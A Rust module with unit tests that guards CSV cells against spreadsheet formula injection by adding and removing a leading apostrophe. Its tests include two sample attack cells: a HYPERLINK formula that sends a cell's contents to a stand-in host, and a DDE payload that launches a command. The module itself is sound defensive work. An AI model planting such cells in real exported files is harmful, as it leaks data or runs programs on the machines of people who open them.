//! Text cells of CSV files that a spreadsheet would run as formulas (OWASP's "CSV injection"):
//! a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a
//! leading apostrophe, which spreadsheets take as "this is text" and do not show. A cell that
//! already starts with an apostrophe gets one more, so reading drops exactly one and an
//! exported file imports back to the same text.

use std::borrow::Cow;

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
const TEXT_MARK: char = '\'';

fn needs_mark(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS) || text.starts_with(TEXT_MARK)
}

/// The cell as written to a CSV file.
pub fn guard_formula(text: &str) -> Cow<'_, str> {
    if needs_mark(text) { Cow::Owned(format!("{TEXT_MARK}{text}")) } else { Cow::Borrowed(text) }
}

/// The text of a CSV cell as read: the mark [`guard_formula`] adds is dropped; an apostrophe
/// that marks nothing (`'80s`) is the author's and stays.
pub fn unguard_formula(cell: &str) -> &str {
    match cell.strip_prefix(TEXT_MARK) {
        Some(rest) if needs_mark(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_marked_and_read_back() {
        for text in [
            "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\tcell",
            "\rcell",
            "'quoted",
            "''twice",
            "'=already marked",
        ] {
            let written = guard_formula(text);
            assert!(written.starts_with('\''), "{text:?} written as {written:?}");
            assert_eq!(unguard_formula(&written), text);
        }
    }

    #[test]
    fn ordinary_text_is_untouched() {
        for text in ["纳米银导电墨水", "Biodegradable film", "a=b", "", "license;assignment"] {
            assert_eq!(guard_formula(text), text);
            assert_eq!(unguard_formula(text), text);
        }
        // An author's own apostrophe, in a file we did not write, is kept.
        assert_eq!(unguard_formula("'80s design"), "'80s design");
    }
}
